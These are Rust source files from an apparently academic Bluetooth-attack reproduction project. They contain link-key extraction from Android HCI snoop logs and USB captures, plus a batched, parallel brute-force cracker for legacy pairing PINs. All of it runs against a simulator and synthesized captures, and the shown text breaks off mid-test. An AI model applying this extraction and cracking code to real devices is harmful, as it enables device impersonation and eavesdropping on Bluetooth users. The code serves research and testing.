//! let report = ExtractionScenario::new(profiles::nexus_5x_a8(), 7).run();
//! assert!(report.key_matches, "the dumped key is the real bond key");
//! assert!(report.impersonation_validated, "and it authenticates to M");
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod ablation;
pub mod campaign;
pub mod eavesdrop;
pub mod extract;
pub mod legacy_pin;
pub mod link_key_extraction;
pub mod mitigations;
pub mod page_blocking;
pub mod report;
pub mod runner;

/// Well-known addresses used across scenarios, matching the paper's figures
/// where one is given.
pub mod addrs {
    /// The hard target `M` (the LG VELVET of Fig 10, NAP `48:90`).
    pub const M: &str = "48:90:12:34:56:78";
    /// The soft target `C` (the accessory of Fig 11, `00:1b:7d:da:71:0a`).
    pub const C: &str = "00:1b:7d:da:71:0a";
    /// The attacker `A`'s own (pre-spoof) address.
    pub const A: &str = "a7:7a:c8:e2:00:01";
}
