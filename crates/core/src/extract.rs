//! The two HCI observation channels of §IV / §VI-B1.

use blap_sim::Device;
use blap_snoop::hexconv;
use blap_snoop::log::HciTrace;
use blap_types::{BdAddr, LinkKey};

/// Which leak channel an extraction used.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ExtractionChannel {
    /// Android "Bluetooth HCI snoop log", pulled via the bug report.
    HciSnoopLog,
    /// USB protocol analyzer on a dongle transport, searched for the
    /// `0b 04 16` opcode pattern after hex conversion.
    UsbSniffer,
}

impl std::fmt::Display for ExtractionChannel {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ExtractionChannel::HciSnoopLog => f.write_str("HCI dump (snoop log)"),
            ExtractionChannel::UsbSniffer => f.write_str("USB sniff"),
        }
    }
}

/// Extracts the link key for `peer` from a device's snoop log, the way the
/// paper pulls it from an Android bug report: serialize the log, parse the
/// btsnoop container, walk the packets.
///
/// Returns `None` when the device has no dump (unsupported stack / option
/// off) or the key never crossed HCI while logging.
pub fn from_snoop_log(device: &Device, peer: BdAddr) -> Option<LinkKey> {
    let bytes = device.bug_report()?;
    let trace = HciTrace::from_btsnoop_bytes(&bytes).ok()?;
    trace.link_key_for(peer)
}

/// Extracts every link key visible in a device's snoop log.
pub fn all_from_snoop_log(device: &Device) -> Vec<(BdAddr, LinkKey)> {
    device
        .bug_report()
        .and_then(|bytes| HciTrace::from_btsnoop_bytes(&bytes).ok())
        .map(|trace| trace.extract_link_keys())
        .unwrap_or_default()
}

/// Extracts the link key for `peer` from a device's raw USB capture using
/// the paper's §VI-B1 procedure: hex-convert the stream, search for
/// `0b 04 16`, skip the six address bytes, take the sixteen key bytes.
pub fn from_usb_capture(device: &Device, peer: BdAddr) -> Option<LinkKey> {
    let raw = device.usb_capture()?;
    // The paper converts to ASCII hex to eyeball/grep the stream; the
    // conversion is behaviour-preserving, so scan the bytes directly and
    // keep the text form available for display.
    let _searchable_text = hexconv::to_hex_string(&raw[..raw.len().min(64)]);
    hexconv::scan_link_key_replies(&raw)
        .into_iter()
        .map(|m| {
            (
                BdAddr::from_le_bytes(m.addr_le),
                LinkKey::from_le_bytes(m.key_le),
            )
        })
        .find(|(addr, _)| *addr == peer)
        .map(|(_, key)| key)
}

/// Extracts via whichever channel the device exposes, preferring the snoop
/// log (no hardware needed), falling back to USB.
pub fn auto(device: &Device, peer: BdAddr) -> Option<(ExtractionChannel, LinkKey)> {
    if let Some(key) = from_snoop_log(device, peer) {
        return Some((ExtractionChannel::HciSnoopLog, key));
    }
    from_usb_capture(device, peer).map(|key| (ExtractionChannel::UsbSniffer, key))
}

#[cfg(test)]
mod tests {
    use super::*;
    use blap_sim::{profiles, World};
    use blap_types::Duration;

    #[test]
    fn snoop_extraction_after_pairing() {
        let mut world = World::new(11);
        let phone =
            world.add_device(profiles::lg_velvet().victim_phone_with_snoop("11:11:11:11:11:11"));
        let kit = world.add_device(profiles::car_kit("cc:cc:cc:cc:cc:cc"));
        let _ = kit;
        world
            .device_mut(phone)
            .host
            .pair_with("cc:cc:cc:cc:cc:cc".parse().unwrap());
        world.run_for(Duration::from_secs(5));

        let peer: BdAddr = "cc:cc:cc:cc:cc:cc".parse().unwrap();
        let extracted = from_snoop_log(world.device(phone), peer)
            .expect("pairing writes Link_Key_Notification into the dump");
        let stored = world
            .device(phone)
            .host
            .keystore()
            .get(peer)
            .expect("bond stored")
            .link_key;
        assert_eq!(extracted, stored);
        assert_eq!(
            auto(world.device(phone), peer),
            Some((ExtractionChannel::HciSnoopLog, stored))
        );
    }

    #[test]
    fn no_dump_no_extraction() {
        let mut world = World::new(12);
        let phone = world.add_device(profiles::lg_velvet().victim_phone("11:11:11:11:11:11"));
        let kit = world.add_device(profiles::car_kit("cc:cc:cc:cc:cc:cc"));
        let _ = kit;
        world
            .device_mut(phone)
            .host
            .pair_with("cc:cc:cc:cc:cc:cc".parse().unwrap());
        world.run_for(Duration::from_secs(5));
        let peer: BdAddr = "cc:cc:cc:cc:cc:cc".parse().unwrap();
        assert_eq!(from_snoop_log(world.device(phone), peer), None);
        assert_eq!(auto(world.device(phone), peer), None);
    }

    #[test]
    fn usb_extraction_on_dongle_stack() {
        let mut world = World::new(13);
        let pc = world.add_device(profiles::windows_ms_driver().soft_target("00:1b:7d:da:71:0a"));
        let kit = world.add_device(profiles::car_kit("cc:cc:cc:cc:cc:cc"));
        let _ = kit;
        world
            .device_mut(pc)
            .host
            .pair_with("cc:cc:cc:cc:cc:cc".parse().unwrap());
        world.run_for(Duration::from_secs(5));
        // Reconnect so the host hands the key down via
        // Link_Key_Request_Reply (the 0b 04 16 packet).
        world
            .device_mut(pc)
            .host
            .disconnect("cc:cc:cc:cc:cc:cc".parse().unwrap());
        world.run_for(Duration::from_secs(2));
        world.device_mut(pc).host.connect_profile(
            "cc:cc:cc:cc:cc:cc".parse().unwrap(),
            blap_types::ServiceUuid::HANDS_FREE,
        );
        world.run_for(Duration::from_secs(5));

        let peer: BdAddr = "cc:cc:cc:cc:cc:cc".parse().unwrap();
        let stored = world
            .device(pc)
            .host
            .keystore()
            .get(peer)
            .expect("bond stored")
            .link_key;
        let (channel, extracted) = auto(world.device(pc), peer).expect("USB capture leaks the key");
        assert_eq!(channel, ExtractionChannel::UsbSniffer);
        assert_eq!(extracted, stored);
    }
}
