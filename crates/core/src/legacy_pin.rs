//! Offline PIN cracking against legacy (pre-SSP) pairing — the
//! Shaked–Wool-style analysis behind the paper's references 14/15 and
//! the stated reason SSP exists (§II-C: legacy pairing "has been recognized
//! as vulnerable to diverse attacks").
//!
//! A passive sniffer of one legacy pairing sees, in the clear:
//!
//! * `IN_RAND` — the `E22` input,
//! * both masked combination-key contributions `C_a = LK_RAND_a ⊕ K_init`
//!   and `C_b = LK_RAND_b ⊕ K_init`,
//! * a subsequent `LMP_au_rand` / `LMP_sres` authentication exchange.
//!
//! For every candidate PIN the attacker recomputes `K_init = E22(IN_RAND,
//! PIN, claimant)`, unmasks both `LK_RAND`s, rebuilds the combination key
//! with `E21`, and checks it against the observed `SRES`. A four-digit PIN
//! falls in at most 10⁴ trials.

use blap_crypto::e1;
use blap_types::{BdAddr, LinkKey};

/// The cleartext transcript of one legacy pairing plus one authentication,
/// as a passive sniffer records it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct LegacyPairingCapture {
    /// Pairing initiator's address (the `E21` "device A").
    pub initiator: BdAddr,
    /// Pairing responder's address — also the `E22` claimant.
    pub responder: BdAddr,
    /// The initiator's `IN_RAND`.
    pub in_rand: [u8; 16],
    /// Initiator's masked contribution `LK_RAND_a ⊕ K_init`.
    pub comb_initiator: [u8; 16],
    /// Responder's masked contribution `LK_RAND_b ⊕ K_init`.
    pub comb_responder: [u8; 16],
    /// Verifier's challenge from the authentication that followed.
    pub au_rand: [u8; 16],
    /// The prover's observed response. The prover is the responder (the
    /// initiator challenged it), so `E1` runs over the responder's address.
    pub sres: [u8; 4],
}

impl LegacyPairingCapture {
    /// Synthesizes the capture an eavesdropper would record for a pairing
    /// with the given PIN and randomness — the test/bench generator.
    pub fn synthesize(
        initiator: BdAddr,
        responder: BdAddr,
        pin: &[u8],
        in_rand: [u8; 16],
        lk_rand_a: [u8; 16],
        lk_rand_b: [u8; 16],
        au_rand: [u8; 16],
    ) -> Self {
        let k_init = e1::e22(&in_rand, pin, responder);
        let comb_initiator = xor16(&lk_rand_a, &k_init.to_bytes());
        let comb_responder = xor16(&lk_rand_b, &k_init.to_bytes());
        let key = combination_key(&lk_rand_a, initiator, &lk_rand_b, responder);
        let sres = e1::e1(&key, &au_rand, responder).sres;
        LegacyPairingCapture {
            initiator,
            responder,
            in_rand,
            comb_initiator,
            comb_responder,
            au_rand,
            sres,
        }
    }

    /// Reconstructs the link key a candidate PIN would have produced.
    pub fn key_for_pin(&self, pin: &[u8]) -> LinkKey {
        let k_init = e1::e22(&self.in_rand, pin, self.responder);
        let lk_rand_a = xor16(&self.comb_initiator, &k_init.to_bytes());
        let lk_rand_b = xor16(&self.comb_responder, &k_init.to_bytes());
        combination_key(&lk_rand_a, self.initiator, &lk_rand_b, self.responder)
    }

    /// Whether a candidate PIN reproduces the observed `SRES`.
    pub fn pin_matches(&self, pin: &[u8]) -> bool {
        let key = self.key_for_pin(pin);
        e1::e1(&key, &self.au_rand, self.responder).sres == self.sres
    }
}

fn xor16(a: &[u8; 16], b: &[u8; 16]) -> [u8; 16] {
    core::array::from_fn(|i| a[i] ^ b[i])
}

fn combination_key(
    lk_rand_a: &[u8; 16],
    addr_a: BdAddr,
    lk_rand_b: &[u8; 16],
    addr_b: BdAddr,
) -> LinkKey {
    let ka = e1::e21(lk_rand_a, addr_a);
    let kb = e1::e21(lk_rand_b, addr_b);
    LinkKey::new(xor16(&ka.to_bytes(), &kb.to_bytes()))
}

/// Result of a PIN-cracking run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CrackResult {
    /// The recovered PIN.
    pub pin: Vec<u8>,
    /// The link key it yields.
    pub link_key: LinkKey,
    /// How many candidates were tested before the hit.
    pub attempts: usize,
}

/// Brute-forces numeric PINs of up to `max_digits` digits against a
/// captured transcript. Returns the first PIN whose reconstruction matches
/// the observed `SRES`.
pub fn crack_numeric_pin(capture: &LegacyPairingCapture, max_digits: u32) -> Option<CrackResult> {
    let mut attempts = 0;
    for digits in 1..=max_digits {
        for value in 0..10u32.pow(digits) {
            attempts += 1;
            let pin = format!("{value:0width$}", width = digits as usize).into_bytes();
            if capture.pin_matches(&pin) {
                let link_key = capture.key_for_pin(&pin);
                return Some(CrackResult {
                    pin,
                    link_key,
                    attempts,
                });
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn capture_with_pin(pin: &[u8]) -> LegacyPairingCapture {
        LegacyPairingCapture::synthesize(
            "11:11:11:11:11:11".parse().expect("valid address"),
            "cc:cc:cc:cc:cc:cc".parse().expect("valid address"),
            pin,
            [0xA1; 16],
            [0xB2; 16],
            [0xC3; 16],
            [0xD4; 16],
        )
    }

    #[test]
    fn four_digit_pin_cracks() {
        let capture = capture_with_pin(b"4821");
        let result = crack_numeric_pin(&capture, 4).expect("pin found");
        assert_eq!(result.pin, b"4821");
        assert_eq!(result.link_key, capture.key_for_pin(b"4821"));
        assert!(result.attempts <= 11_110, "attempts {}", result.attempts);
    }

    #[test]
    fn short_pins_crack_almost_instantly() {
        let capture = capture_with_pin(b"07");
        let result = crack_numeric_pin(&capture, 4).expect("pin found");
        assert_eq!(result.pin, b"07");
        assert!(result.attempts <= 110);
    }

    #[test]
    fn wrong_pin_space_finds_nothing() {
        // An alphanumeric PIN is outside the numeric search space.
        let capture = capture_with_pin(b"zz!a");
        assert_eq!(crack_numeric_pin(&capture, 3), None);
    }

    #[test]
    fn cracked_key_matches_genuine_derivation() {
        // The key reconstructed from the PIN equals the key the honest
        // devices derived (synthesize + key_for_pin agree by construction;
        // this pins the unmask/rebuild path against a tampered transcript).
        let capture = capture_with_pin(b"1234");
        let honest = capture.key_for_pin(b"1234");
        let mut tampered = capture.clone();
        tampered.comb_responder[0] ^= 1;
        assert_ne!(tampered.key_for_pin(b"1234"), honest);
        assert!(!tampered.pin_matches(b"1234"));
    }
}
