//! Offline PIN cracking against legacy (pre-SSP) pairing — the
//! Shaked–Wool-style analysis behind the paper's references 14/15 and
//! the stated reason SSP exists (§II-C: legacy pairing "has been recognized
//! as vulnerable to diverse attacks").
//!
//! A passive sniffer of one legacy pairing sees, in the clear:
//!
//! * `IN_RAND` — the `E22` input,
//! * both masked combination-key contributions `C_a = LK_RAND_a ⊕ K_init`
//!   and `C_b = LK_RAND_b ⊕ K_init`,
//! * a subsequent `LMP_au_rand` / `LMP_sres` authentication exchange.
//!
//! For every candidate PIN the attacker recomputes `K_init = E22(IN_RAND,
//! PIN, claimant)`, unmasks both `LK_RAND`s, rebuilds the combination key
//! with `E21`, and checks it against the observed `SRES`. A four-digit PIN
//! falls in at most 10⁴ trials.

use blap_crypto::batch::{
    e21_batch, encrypt_prime_batch, expand_addr_splat, Batch16, E1Batch, KeyScheduleBatch, LANES,
};
use blap_crypto::e1::{self, AugmentedPin};
use blap_types::{BdAddr, LinkKey};

use crate::runner::{parallel_search_scratch, Jobs};

/// The cleartext transcript of one legacy pairing plus one authentication,
/// as a passive sniffer records it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct LegacyPairingCapture {
    /// Pairing initiator's address (the `E21` "device A").
    pub initiator: BdAddr,
    /// Pairing responder's address — also the `E22` claimant.
    pub responder: BdAddr,
    /// The initiator's `IN_RAND`.
    pub in_rand: [u8; 16],
    /// Initiator's masked contribution `LK_RAND_a ⊕ K_init`.
    pub comb_initiator: [u8; 16],
    /// Responder's masked contribution `LK_RAND_b ⊕ K_init`.
    pub comb_responder: [u8; 16],
    /// Verifier's challenge from the authentication that followed.
    pub au_rand: [u8; 16],
    /// The prover's observed response. The prover is the responder (the
    /// initiator challenged it), so `E1` runs over the responder's address.
    pub sres: [u8; 4],
}

impl LegacyPairingCapture {
    /// Synthesizes the capture an eavesdropper would record for a pairing
    /// with the given PIN and randomness — the test/bench generator.
    pub fn synthesize(
        initiator: BdAddr,
        responder: BdAddr,
        pin: &[u8],
        in_rand: [u8; 16],
        lk_rand_a: [u8; 16],
        lk_rand_b: [u8; 16],
        au_rand: [u8; 16],
    ) -> Self {
        let k_init = e1::e22(&in_rand, pin, responder);
        let comb_initiator = xor16(&lk_rand_a, &k_init.to_bytes());
        let comb_responder = xor16(&lk_rand_b, &k_init.to_bytes());
        let key = combination_key(&lk_rand_a, initiator, &lk_rand_b, responder);
        let sres = e1::e1(&key, &au_rand, responder).sres;
        LegacyPairingCapture {
            initiator,
            responder,
            in_rand,
            comb_initiator,
            comb_responder,
            au_rand,
            sres,
        }
    }

    /// Reconstructs the link key a candidate PIN would have produced.
    pub fn key_for_pin(&self, pin: &[u8]) -> LinkKey {
        let k_init = e1::e22(&self.in_rand, pin, self.responder);
        let lk_rand_a = xor16(&self.comb_initiator, &k_init.to_bytes());
        let lk_rand_b = xor16(&self.comb_responder, &k_init.to_bytes());
        combination_key(&lk_rand_a, self.initiator, &lk_rand_b, self.responder)
    }

    /// Whether a candidate PIN reproduces the observed `SRES`.
    pub fn pin_matches(&self, pin: &[u8]) -> bool {
        self.check_pin(pin).is_some()
    }

    /// [`Self::pin_matches`], but returns the reconstructed link key on a
    /// hit so the caller need not recompute it — the crack loop's hit path
    /// previously ran the whole `E22`/`E21` chain a second time.
    pub fn check_pin(&self, pin: &[u8]) -> Option<LinkKey> {
        let key = self.key_for_pin(pin);
        (e1::e1(&key, &self.au_rand, self.responder).sres == self.sres).then_some(key)
    }
}

fn xor16(a: &[u8; 16], b: &[u8; 16]) -> [u8; 16] {
    core::array::from_fn(|i| a[i] ^ b[i])
}

/// Batched candidate verdicts against one capture: the E22/E21/E1
/// recomputation chain for [`LANES`] candidate PINs at once, over the
/// byte-sliced vector kernels in [`blap_crypto::batch`].
///
/// Construction hoists every candidate-independent input out of the inner
/// loop — the splatted masked combination words, both expanded device
/// addresses, and the authentication challenge are computed once per
/// challenge instead of once per candidate. The scalar
/// [`LegacyPairingCapture::check_pin`] path stays alive as the pinned
/// correctness reference; property tests assert the two agree verdict for
/// verdict.
pub struct PinCracker<'a> {
    capture: &'a LegacyPairingCapture,
    comb_initiator: Batch16,
    comb_responder: Batch16,
    addr_ext_initiator: Batch16,
    addr_ext_responder: Batch16,
    au_rand: Batch16,
}

impl<'a> PinCracker<'a> {
    /// Hoists the capture's candidate-independent inputs into splat form.
    pub fn new(capture: &'a LegacyPairingCapture) -> PinCracker<'a> {
        PinCracker {
            capture,
            comb_initiator: Batch16::splat(&capture.comb_initiator),
            comb_responder: Batch16::splat(&capture.comb_responder),
            addr_ext_initiator: expand_addr_splat(capture.initiator),
            addr_ext_responder: expand_addr_splat(capture.responder),
            au_rand: Batch16::splat(&capture.au_rand),
        }
    }

    /// The capture this cracker verifies against.
    pub fn capture(&self) -> &LegacyPairingCapture {
        self.capture
    }

    /// Scalar reference verdict (see [`LegacyPairingCapture::check_pin`]).
    pub fn check_pin(&self, pin: &[u8]) -> Option<LinkKey> {
        self.capture.check_pin(pin)
    }

    /// Runs the full recomputation chain for [`LANES`] candidates whose
    /// `E22` SAFER+ keys are packed in `pin_keys`, with `e22_y` the
    /// splatted candidate-independent `E22` cipher input
    /// ([`AugmentedPin::e22_input`], shared by every same-length PIN).
    ///
    /// Returns the bitmask of lanes whose reconstruction reproduces the
    /// observed `SRES` (bit `n` = lane `n`).
    pub fn check_batch(&self, e22_y: &Batch16, pin_keys: &Batch16) -> u16 {
        let k_init = encrypt_prime_batch(&KeyScheduleBatch::new(pin_keys), e22_y);
        let lk_rand_a = k_init.xor(&self.comb_initiator);
        let lk_rand_b = k_init.xor(&self.comb_responder);
        let ka = e21_batch(&lk_rand_a, &self.addr_ext_initiator);
        let kb = e21_batch(&lk_rand_b, &self.addr_ext_responder);
        let key = ka.xor(&kb);
        let out = E1Batch::new(&key).e1_output(&self.au_rand, &self.addr_ext_responder);
        out.match4_mask(&self.capture.sres)
    }
}

fn combination_key(
    lk_rand_a: &[u8; 16],
    addr_a: BdAddr,
    lk_rand_b: &[u8; 16],
    addr_b: BdAddr,
) -> LinkKey {
    let ka = e1::e21(lk_rand_a, addr_a);
    let kb = e1::e21(lk_rand_b, addr_b);
    LinkKey::new(xor16(&ka.to_bytes(), &kb.to_bytes()))
}

/// Result of a PIN-cracking run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CrackResult {
    /// The recovered PIN.
    pub pin: Vec<u8>,
    /// The link key it yields.
    pub link_key: LinkKey,
    /// How many candidates were tested before the hit.
    pub attempts: usize,
}

/// Candidates per work chunk in the parallel search: a multiple of the
/// batch width so chunk interiors split into whole batches, large enough
/// to amortize the scheduling atomics (a chunk is ~100 µs of batched
/// SAFER+ work) and small enough to keep the early exit tight.
const PIN_CHUNK: u64 = 512;

/// The longest PIN the E22 algorithm admits: the spec caps PINs at 16
/// bytes, so a numeric search space never has more than 16 digit
/// positions. Also the overflow bound for [`pin_space_size`] arithmetic —
/// `10 + 100 + … + 10^16` fits a `u64`, `10^20` does not.
pub const MAX_PIN_DIGITS: u32 = 16;

/// How many candidate PINs the numeric search space holds up to
/// `max_digits` digits: `10 + 100 + … + 10^max_digits`.
///
/// Panics past [`MAX_PIN_DIGITS`]: beyond the E22 bound the geometric sum
/// would silently wrap in release builds (`10^20 > u64::MAX`) and scan a
/// nonsense space.
fn pin_space_size(max_digits: u32) -> u64 {
    assert!(
        max_digits <= MAX_PIN_DIGITS,
        "max_digits {max_digits} exceeds the E22 bound of {MAX_PIN_DIGITS} digits"
    );
    let mut total = 0u64;
    let mut block = 10u64;
    for _ in 0..max_digits {
        total += block;
        block *= 10;
    }
    total
}

/// The ASCII PIN at a global candidate index (1-digit PINs first, then
/// 2-digit including leading zeros, and so on — the serial scan order).
#[cfg(test)]
fn pin_for_index(index: u64) -> Vec<u8> {
    let mut pin = Vec::new();
    set_pin_for_index(&mut pin, index);
    pin
}

/// Writes the PIN at `index` into an existing buffer, reusing its
/// allocation — workers reseed their odometer with this at non-contiguous
/// chunk boundaries instead of building a fresh `Vec`.
fn set_pin_for_index(pin: &mut Vec<u8>, mut index: u64) {
    let mut digits = 1usize;
    let mut block = 10u64;
    while index >= block {
        index -= block;
        block *= 10;
        digits += 1;
    }
    pin.clear();
    pin.resize(digits, b'0');
    for slot in pin.iter_mut().rev() {
        *slot = b'0' + (index % 10) as u8;
        index /= 10;
    }
}

/// Advances the ASCII candidate buffer in place — the odometer that
/// replaces a per-candidate `format!` allocation. Rolling over the whole
/// buffer ("99" → "000") enters the next PIN length.
fn advance_pin(pin: &mut Vec<u8>) {
    for slot in pin.iter_mut().rev() {
        if *slot < b'9' {
            *slot += 1;
            return;
        }
        *slot = b'0';
    }
    pin.push(b'0');
}

/// The first candidate index after `index` at which the PIN length grows —
/// the cumulative block boundaries 10, 110, 1110, … Batches never straddle
/// one, because every lane of a batch shares the `E22` augmentation of one
/// PIN length.
fn length_run_end(index: u64) -> u64 {
    let mut boundary = 10u64;
    let mut block = 10u64;
    while boundary <= index {
        block *= 10;
        boundary += block;
    }
    boundary
}

/// Brute-forces numeric PINs of up to `max_digits` digits against a
/// captured transcript. Returns the first PIN whose reconstruction matches
/// the observed `SRES`. Worker count comes from the environment
/// ([`Jobs::from_env`]); the result is identical at any parallelism.
pub fn crack_numeric_pin(capture: &LegacyPairingCapture, max_digits: u32) -> Option<CrackResult> {
    crack_numeric_pin_with(capture, max_digits, Jobs::from_env())
}

/// [`crack_numeric_pin`] with an explicit worker count.
///
/// The PIN space is partitioned into ascending fixed-size chunks; workers
/// claim chunks atomically and stand down once a hit below their next
/// chunk exists. The reported hit is the lowest candidate index over all
/// workers and `attempts` is derived from that index, so the result —
/// including the attempt count — is byte-identical to the serial scan even
/// if several PINs collide on the same `SRES`.
pub fn crack_numeric_pin_with(
    capture: &LegacyPairingCapture,
    max_digits: u32,
    jobs: Jobs,
) -> Option<CrackResult> {
    let cracker = PinCracker::new(capture);
    // Per-worker scratch: the odometer buffer, the index it is parked at,
    // and the per-PIN-length E22 context (augmentation template + splatted
    // cipher input), rebuilt only when the sweep crosses a length
    // boundary. Contiguous chunks keep counting; a gap (another worker
    // claimed the chunk between) reseeds the same buffers.
    type LenContext = Option<(usize, AugmentedPin, Batch16)>;
    let fresh = || (Vec::with_capacity(16), u64::MAX, None as LenContext);
    parallel_search_scratch(
        jobs,
        pin_space_size(max_digits),
        PIN_CHUNK,
        fresh,
        |(pin, parked_at, len_ctx), start, end| {
            if *parked_at != start {
                set_pin_for_index(pin, start);
            }
            let hit = |pin: &Vec<u8>, index: u64, link_key: LinkKey| {
                Some((
                    index,
                    CrackResult {
                        pin: pin.clone(),
                        link_key,
                        attempts: index as usize + 1,
                    },
                ))
            };
            let mut index = start;
            while index < end {
                // Whole batches within one PIN length; the odometer walks
                // the same ascending sequence the scalar scan does, so the
                // lowest flagged lane is exactly the serial first hit.
                let run_end = end.min(length_run_end(index));
                while index + LANES as u64 <= run_end {
                    if len_ctx.as_ref().map(|(l, _, _)| *l) != Some(pin.len()) {
                        let aug = AugmentedPin::new(pin, capture.responder);
                        let y = Batch16::splat(&aug.e22_input(&capture.in_rand));
                        *len_ctx = Some((pin.len(), aug, y));
                    }
                    let (_, aug, e22_y) = len_ctx.as_mut().expect("context just built");
                    let mut lane_keys = [[0u8; 16]; LANES];
                    for lane_key in lane_keys.iter_mut() {
                        aug.set_pin(pin);
                        *lane_key = aug.safer_key();
                        advance_pin(pin);
                    }
                    let mask = cracker.check_batch(e22_y, &Batch16::from_lanes(&lane_keys));
                    if mask != 0 {
                        let found = index + mask.trailing_zeros() as u64;
                        set_pin_for_index(pin, found);
                        let link_key = capture
                            .check_pin(pin)
                            .expect("batch verdict must agree with the scalar reference");
                        return hit(pin, found, link_key);
                    }
                    index += LANES as u64;
                }
                // Scalar tail: the candidates left before the length
                // boundary or chunk end — fewer than one batch.
                while index < run_end {
                    if let Some(link_key) = capture.check_pin(pin) {
                        return hit(pin, index, link_key);
                    }
                    advance_pin(pin);
                    index += 1;
                }
            }
            *parked_at = end;
            None
        },
    )
}

/// The serial, scalar-kernel reference scan: candidate by candidate over
/// [`LegacyPairingCapture::check_pin`], no batching. This is the pinned
/// semantics [`crack_numeric_pin_with`] must reproduce bit for bit; tests
/// diff the two (and the property tests diff per-candidate verdicts).
pub fn crack_numeric_pin_reference(
    capture: &LegacyPairingCapture,
    max_digits: u32,
) -> Option<CrackResult> {
    let mut pin = Vec::with_capacity(16);
    set_pin_for_index(&mut pin, 0);
    for index in 0..pin_space_size(max_digits) {
        if let Some(link_key) = capture.check_pin(&pin) {
            return Some(CrackResult {
                pin,
                link_key,
                attempts: index as usize + 1,
            });
        }
        advance_pin(&mut pin);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn capture_with_pin(pin: &[u8]) -> LegacyPairingCapture {
        LegacyPairingCapture::synthesize(
            "11:11:11:11:11:11".parse().expect("valid address"),
            "cc:cc:cc:cc:cc:cc".parse().expect("valid address"),
            pin,
            [0xA1; 16],
            [0xB2; 16],
            [0xC3; 16],
            [0xD4; 16],
        )
    }

    #[test]
    fn four_digit_pin_cracks() {
        let capture = capture_with_pin(b"4821");
        let result = crack_numeric_pin(&capture, 4).expect("pin found");
        assert_eq!(result.pin, b"4821");
        assert_eq!(result.link_key, capture.key_for_pin(b"4821"));
        assert!(result.attempts <= 11_110, "attempts {}", result.attempts);
    }

    #[test]
    fn short_pins_crack_almost_instantly() {
        let capture = capture_with_pin(b"07");
        let result = crack_numeric_pin(&capture, 4).expect("pin found");
        assert_eq!(result.pin, b"07");
        assert!(result.attempts <= 110);
    }

    #[test]
    fn wrong_pin_space_finds_nothing() {
        // An alphanumeric PIN is outside the numeric search space.
        let capture = capture_with_pin(b"zz!a");
        assert_eq!(crack_numeric_pin(&capture, 3), None);
    }

    #[test]
    fn candidate_enumeration_matches_serial_order() {
        // The odometer must walk the exact sequence the old nested
        // format! loops produced: "0".."9", "00".."99", "000"…
        let mut pin = pin_for_index(0);
        for index in 0..pin_space_size(3) {
            assert_eq!(pin, pin_for_index(index), "index {index}");
            advance_pin(&mut pin);
        }
        assert_eq!(pin_for_index(0), b"0");
        assert_eq!(pin_for_index(9), b"9");
        assert_eq!(pin_for_index(10), b"00");
        assert_eq!(pin_for_index(109), b"99");
        assert_eq!(pin_for_index(110), b"000");
        assert_eq!(pin_space_size(4), 11_110);
    }

    #[test]
    fn pin_space_size_covers_the_full_e22_range_without_overflow() {
        // The full 16-digit space is the largest the E22 bound admits; the
        // sum must come out exact, not wrapped.
        assert_eq!(pin_space_size(MAX_PIN_DIGITS), 11_111_111_111_111_110);
        assert_eq!(pin_space_size(0), 0);
    }

    #[test]
    #[should_panic(expected = "exceeds the E22 bound")]
    fn pin_space_size_past_e22_bound_panics_with_context() {
        // 10^20 overflows u64: before the bound check this panicked with a
        // bare multiply-overflow in debug and silently wrapped in release.
        pin_space_size(20);
    }

    #[test]
    fn parallel_crack_matches_serial() {
        let capture = capture_with_pin(b"4821");
        let serial = crack_numeric_pin_with(&capture, 4, Jobs::serial());
        for jobs in [2, 4, 8] {
            assert_eq!(
                crack_numeric_pin_with(&capture, 4, Jobs::new(jobs)),
                serial,
                "{jobs} jobs"
            );
        }
    }

    #[test]
    fn batch_crack_matches_scalar_reference() {
        // The batched sweep must be bit-identical to the serial scalar
        // reference scan — pin, link key, and attempt count.
        for pin in [b"0042".as_slice(), b"7".as_slice(), b"985".as_slice()] {
            let capture = capture_with_pin(pin);
            let reference = crack_numeric_pin_reference(&capture, 4);
            assert!(reference.is_some(), "reference finds {pin:?}");
            for jobs in [1, 3] {
                assert_eq!(
                    crack_numeric_pin_with(&capture, 4, Jobs::new(jobs)),
                    reference,
                    "{jobs} jobs vs reference for {pin:?}"
                );
            }
        }
    }

    #[test]
    fn six_digit_pin_cracks_identically_at_any_parallelism() {
        let capture = capture_with_pin(b"001873");
        let serial = crack_numeric_pin_with(&capture, 6, Jobs::serial()).expect("pin found");
        assert_eq!(serial.pin, b"001873");
        // 1..=5-digit blocks hold 111,110 candidates; "001873" is 1873
        // candidates into the 6-digit block.
        assert_eq!(serial.attempts, 111_110 + 1873 + 1);
        assert_eq!(serial.link_key, capture.key_for_pin(b"001873"));
        for jobs in [2, 8] {
            assert_eq!(
                crack_numeric_pin_with(&capture, 6, Jobs::new(jobs)),
                Some(serial.clone()),
                "{jobs} jobs"
            );
        }
    }

    #[test]
    fn pin_at_last_index_of_space_is_found() {
        // "99" sits at the very last index of the 2-digit space (109), and
        // the whole space (110) is smaller than one work chunk — the
        // chunk-larger-than-space degenerate case.
        let capture = capture_with_pin(b"99");
        let serial = crack_numeric_pin_with(&capture, 2, Jobs::serial()).expect("pin found");
        assert_eq!(serial.pin, b"99");
        assert_eq!(serial.attempts, 110);
        assert_eq!(
            crack_numeric_pin_with(&capture, 2, Jobs::new(8)),
            Some(serial)
        );
    }

    #[test]
    fn space_not_divisible_by_chunk_finds_last_candidate() {
        // The 3-digit space (1,110) is two full 512-chunks plus a short
        // 86-candidate tail; "999" is its final index.
        let capture = capture_with_pin(b"999");
        let serial = crack_numeric_pin_with(&capture, 3, Jobs::serial()).expect("pin found");
        assert_eq!(serial.pin, b"999");
        assert_eq!(serial.attempts, 1110);
        for jobs in [2, 8] {
            assert_eq!(
                crack_numeric_pin_with(&capture, 3, Jobs::new(jobs)),
                Some(serial.clone()),
                "{jobs} jobs"
            );
        }
    }

    #[test]
    fn length_run_end_walks_the_block_boundaries() {
        assert_eq!(length_run_end(0), 10);
        assert_eq!(length_run_end(9), 10);
        assert_eq!(length_run_end(10), 110);
